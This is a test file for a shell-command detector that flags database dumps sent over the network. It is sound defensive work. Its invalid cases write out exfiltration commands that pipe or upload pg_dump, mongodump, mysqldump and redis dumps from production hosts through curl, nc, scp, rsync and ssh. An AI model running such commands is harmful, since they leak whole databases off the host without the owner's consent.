import rule from '../../../../server/src/core/rules/shell/db-dump-to-network';
import { testShellRule } from '../../../helpers/shell-rule-tester';

testShellRule(rule, {
  valid: [
    'pg_dump db | gzip > db.sql.gz',
    'pg_dump -f out.sql db && ls -l out.sql',
    'mysqldump db | mysql other_db',
    'pg_restore -h prod-db -d app backup.dump | tee restore.log',
    'pg_dump --version | curl -d @- https://x.example',
    'redis-cli -h cache GET k | nc 10.0.0.5 9000',
  ],
  invalid: [
    {
      code: 'pg_dump db | gzip | sudo curl -T - https://x.example',
      errors: [{ messageId: 'piped', line: 1, column: 1 }],
    },
    { code: 'mongodump --archive | nc 10.0.0.5 9000', errors: [{ messageId: 'piped', line: 1, column: 1 }] },
    {
      code: 'pg_dump db | gzip > db.sql.gz\naws s3 cp db.sql.gz s3://bucket/',
      errors: [{ messageId: 'uploaded', line: 2, column: 11 }],
    },
    {
      code: 'mysqldump -r all.sql --all-databases; curl -F f=@all.sql https://x',
      errors: [{ messageId: 'uploaded', line: 1, column: 44 }],
    },
    {
      code: 'pg_restore backup.dump | ssh me@laptop "cat > restore.sql"',
      errors: [{ messageId: 'piped', message: '`pg_restore` output is sent over the network via `ssh`.' }],
    },
    {
      code: 'mongodump --archive --host prod-db | nc 10.0.0.5 9000',
      errors: [{ messageId: 'piped', line: 1, column: 1 }],
    },
    {
      code: 'mariadb-dump -hprod-db shop | gzip > shop.sql.gz && rsync -a shop.sql.gz me@laptop:/tmp/',
      errors: [{ messageId: 'uploaded', line: 1, column: 62 }],
    },
    {
      code: 'redis-cli -h prod-cache --rdb /tmp/dump.rdb; scp /tmp/dump.rdb me@laptop:',
      errors: [
        {
          messageId: 'uploaded',
          message: 'Dump file `/tmp/dump.rdb` written by `redis-cli --rdb` is uploaded via `scp`.',
        },
      ],
    },
  ],
});
